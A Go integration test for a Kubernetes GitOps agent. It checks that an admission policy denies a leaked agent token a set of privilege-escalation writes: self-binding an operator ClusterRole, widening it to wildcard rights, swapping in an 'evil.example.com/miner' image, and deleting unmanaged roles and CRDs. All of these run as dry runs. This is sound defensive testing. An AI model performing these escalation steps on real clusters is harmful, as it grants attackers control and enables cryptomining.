package executor_test

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"sigs.k8s.io/yaml"

	"github.com/kvgitops/kvgitops/planner"
	"github.com/kvgitops/kvgitops/test/testenv"
)

// applyAdmissionPolicy installs deploy/admission-policy.yaml and waits until
// the apiserver enforces it. Every executor test runs under it.
func applyAdmissionPolicy(t testing.TB, env *testenv.Env) {
	t.Helper()
	data, err := os.ReadFile("../deploy/admission-policy.yaml")
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if err := testenv.Apply(ctx, env.Config, data); err != nil {
		t.Fatalf("apply deploy/admission-policy.yaml: %v", err)
	}
	agent := dynamic.NewForConfigOrDie(env.Impersonate("kvgitops", "kvgitops"))
	probe := obj(`{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"kvgitops-policy-probe"}}`)
	deadline := time.Now().Add(30 * time.Second)
	for {
		_, err := agent.Resource(gvr("", "v1", "namespaces")).Create(ctx, probe, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		if apierrors.IsForbidden(err) && strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the admission policy is not enforced after 30s: %v", err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func gvr(g, v, r string) schema.GroupVersionResource {
	return schema.GroupVersionResource{Group: g, Version: v, Resource: r}
}

func obj(y string) *unstructured.Unstructured {
	u := &unstructured.Unstructured{}
	if err := yaml.Unmarshal([]byte(y), &u.Object); err != nil {
		panic(err)
	}
	return u
}

// TestAdmissionPolicyBoundsALeakedToken makes, with the agent's identity,
// every write a stolen token would try and RBAC alone allows: each is denied
// by deploy/admission-policy.yaml, and the same write as an administrator
// is not (the policy, not RBAC, is what stops it). Genuine manifests still
// apply under the policy: every executor test, TestInstallerRBACOnGenuineManifests
// among them, runs with it.
func TestAdmissionPolicyBoundsALeakedToken(t *testing.T) {
	h := start(t, harnessOptions{})
	env := testenv.Get(t)
	ctx := context.Background()
	h.install(t, "v1.8.4", planner.MethodOperator)
	agent := dynamic.NewForConfigOrDie(env.Impersonate("kvgitops", "kvgitops"))
	admin := dynamic.NewForConfigOrDie(env.Config)
	dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
	crb, cr := gvr("rbac.authorization.k8s.io", "v1", "clusterrolebindings"), gvr("rbac.authorization.k8s.io", "v1", "clusterroles")
	rb, dep := gvr("rbac.authorization.k8s.io", "v1", "rolebindings"), gvr("apps", "v1", "deployments")
	crd := gvr("apiextensions.k8s.io", "v1", "customresourcedefinitions")
	deployment := func(ns, sa, image string) *unstructured.Unstructured {
		return obj(`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"virt-operator","namespace":"` + ns + `"},
			"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},
			"spec":{"serviceAccountName":"` + sa + `","containers":[{"name":"c","image":"` + image + `"}]}}}}`)
	}
	attacks := []struct {
		name string
		do   func(c dynamic.Interface) error
	}{
		{"bind kubevirt-operator to the agent itself", func(c dynamic.Interface) error {
			_, err := c.Resource(crb).Create(ctx, obj(`{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"pwn"},
				"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"kubevirt-operator"},
				"subjects":[{"kind":"ServiceAccount","name":"kvgitops","namespace":"kvgitops"}]}`), dry)
			return err
		}},
		{"widen kubevirt-operator to everything", func(c dynamic.Interface) error {
			patch := `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`
			_, err := c.Resource(cr).Patch(ctx, "kubevirt-operator", types.MergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}},
		{"make kubevirt-operator aggregate every role", func(c dynamic.Interface) error {
			patch := `{"aggregationRule":{"clusterRoleSelectors":[{}]}}`
			_, err := c.Resource(cr).Patch(ctx, "kubevirt-operator", types.MergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}},
		{"bind the operator Role in another namespace", func(c dynamic.Interface) error {
			_, err := c.Resource(rb).Namespace("default").Create(ctx, obj(`{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"pwn","namespace":"default"},
				"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"kubevirt-operator"},
				"subjects":[{"kind":"ServiceAccount","name":"kubevirt-operator","namespace":"kubevirt"}]}`), dry)
			return err
		}},
		{"a Deployment in another namespace", func(c dynamic.Interface) error {
			_, err := c.Resource(dep).Namespace("default").Create(ctx, deployment("default", "default", "quay.io/kubevirt/virt-operator:v1.8.4"), dry)
			return err
		}},
		{"the operator Deployment with another ServiceAccount", func(c dynamic.Interface) error {
			patch := `{"spec":{"template":{"spec":{"serviceAccountName":"default"}}}}`
			_, err := c.Resource(dep).Namespace("kubevirt").Patch(ctx, "virt-operator", types.MergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}},
		{"the operator's ServiceAccount running another image", func(c dynamic.Interface) error {
			_, err := c.Resource(dep).Namespace("kubevirt").Create(ctx, deployment("kubevirt", "kubevirt-operator", "evil.example.com/miner:latest"), dry)
			if apierrors.IsAlreadyExists(err) {
				patch := `{"spec":{"template":{"spec":{"containers":[{"name":"virt-operator","image":"evil.example.com/miner:latest"}]}}}}`
				_, err = c.Resource(dep).Namespace("kubevirt").Patch(ctx, "virt-operator", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			}
			return err
		}},
		{"delete a ClusterRole KubeVirt does not manage", func(c dynamic.Interface) error {
			return c.Resource(cr).Delete(ctx, "admin", metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}})
		}},
		{"delete a CRD KubeVirt does not manage", func(c dynamic.Interface) error {
			return c.Resource(crd).Delete(ctx, "leases.example.com", metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}})
		}},
		{"create another namespace", func(c dynamic.Interface) error {
			_, err := c.Resource(gvr("", "v1", "namespaces")).Create(ctx, obj(`{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"evil"}}`), dry)
			return err
		}},
	}
	// A CRD nobody manages, for the CRD attack.
	if _, err := admin.Resource(crd).Create(ctx, obj(`{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"leases.example.com"},
		"spec":{"group":"example.com","scope":"Namespaced","names":{"plural":"leases","kind":"Lease"},
		"versions":[{"name":"v1","served":true,"storage":true,"schema":{"openAPIV3Schema":{"type":"object"}}}]}}`), metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = admin.Resource(crd).Delete(context.Background(), "leases.example.com", metav1.DeleteOptions{})
	})

	// Without the policy, RBAC alone lets the agent do each of these.
	vap := gvr("admissionregistration.k8s.io", "v1", "validatingadmissionpolicybindings")
	if err := admin.Resource(vap).Delete(ctx, "kvgitops-installer-bounds", metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for a := attacks[len(attacks)-1]; a.do(agent) != nil && time.Now().Before(deadline); {
		time.Sleep(100 * time.Millisecond) // until the apiserver forgets the binding
	}
	for _, a := range attacks {
		if err := a.do(agent); err != nil {
			t.Errorf("without the policy, %s: %v (RBAC should allow it, or the attack is not one)", a.name, err)
		}
	}
	applyAdmissionPolicy(t, env)
	for _, a := range attacks {
		err := a.do(agent)
		if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "kvgitops-installer-bounds") {
			t.Errorf("%s as the agent: %v, want denied by kvgitops-installer-bounds", a.name, err)
		}
		if err := a.do(admin); err != nil {
			t.Errorf("%s as an administrator: %v (the policy must bind the agent only)", a.name, err)
		}
	}
}
